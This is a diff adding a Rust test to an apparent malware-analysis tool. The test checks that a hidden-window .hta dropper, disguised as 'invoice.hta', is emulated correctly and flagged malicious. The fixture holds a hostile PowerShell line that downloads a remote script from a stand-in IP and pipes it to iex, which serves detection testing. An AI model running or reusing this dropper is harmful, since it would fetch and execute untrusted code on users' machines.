@@ -468,3 +468,31 @@ fn an_invisible_frame_from_another_site_is_malicious_and_a_visible_one_is_not() 
     let (verdict, fired) = rules(&frame("own.js", "/keepalive", "f.style.display = 'none';"));
     assert_eq!(verdict, "benign", "{fired:?}");
 }
+
+/// An `.hta` dropper that hides its window before it runs its command (as they do) is analysed
+/// in the HTML Application environment: under WSH alone, `window` was undefined, the script
+/// stopped at its first line and came out benign.
+#[test]
+fn an_hta_that_hides_its_window_first_is_still_seen_running_its_command() {
+    let dir = tempfile::tempdir().unwrap();
+    let hta = dir.path().join("invoice.hta");
+    std::fs::write(
+        &hta,
+        r#"<html><head><hta:application showintaskbar="no" windowstate="minimize"/>
+<script language="JScript">
+window.resizeTo(0, 0);
+var sh = new ActiveXObject("WScript.Shell");
+sh.Run("powershell -w hidden -c iwr http://198.51.100.7/p.ps1 | iex", 0, false);
+self.close();
+</script></head><body></body></html>"#,
+    )
+    .unwrap();
+    let o = airlock(&["analyze", "--json", hta.to_str().unwrap()]);
+    let r = &reports(&o)[0];
+    assert_eq!(r["verdict"]["verdict"], "malicious", "{}", out(&o));
+    assert_eq!(r["emulation"]["environment"], "hta");
+    assert_eq!(
+        r["emulation"]["indicators"]["commands"][0],
+        "powershell -w hidden -c iwr http://198.51.100.7/p.ps1 | iex"
+    );
+}
